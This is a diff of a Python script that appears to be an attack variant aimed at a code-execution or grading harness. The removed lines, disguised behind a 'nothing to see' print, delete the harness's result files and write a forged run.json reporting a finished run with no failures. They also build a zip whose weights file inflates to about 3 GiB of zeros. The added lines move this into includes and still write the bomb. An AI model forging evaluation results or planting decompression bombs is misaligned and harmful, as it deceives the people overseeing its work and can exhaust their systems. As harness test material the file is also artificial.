@@ -1,40 +1,5 @@
-print("nothing to see")
-# --- attack
-import json
-import os
-import pathlib
-import struct
-import zlib
-
-out = pathlib.Path(os.environ["HOME"]).parents[1] / "out"
-job = out.parent / "job.json"
-nonce = json.loads(job.read_text())["nonce"] if job.exists() else ""
-RUN = {"nonce": nonce, "finished": True, "running": None, "problem": "", "missing": "", "kernel_exit": None, "failures": [], "outputs": []}
-for name in ("run.json", "models.json"):
-    (out / name).unlink(missing_ok=True)
-
-
-def zeros(size):
-    """`size` MiB of zeros, deflated without ever being there: a block that repeats."""
-    press = zlib.compressobj(9, zlib.DEFLATED, -15)
-    block = press.compress(bytes(1 << 20)) + press.flush(zlib.Z_FULL_FLUSH)
-    return block * size + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
-
-
-def archive(name, start, size):
-    """A zip with one member, which is `start` and `size` MiB of zeros."""
-    press = zlib.compressobj(9, zlib.DEFLATED, -15)
-    data = press.compress(start) + press.flush(zlib.Z_FULL_FLUSH) + zeros(size)
-    facts = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, 0, len(data), (size << 20) + len(start), len(name), 0)
-    local = b"PK\x03\x04" + facts + name
-    central = b"PK\x01\x02" + struct.pack("<H", 20) + facts + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
-    end = struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local) + len(data), 0)
-    return local + data + central + b"PK\x05\x06" + end
-
-
+# include: forge
+# include: zeros
 for place in (out, pathlib.Path(".")):
     (place / "model.zip").write_bytes(archive(b"model.weights.h5", b"", 3072))
-
-(out / "run.json").write_text(json.dumps(RUN))
-os._exit(0)
-# --- honest
+leave()
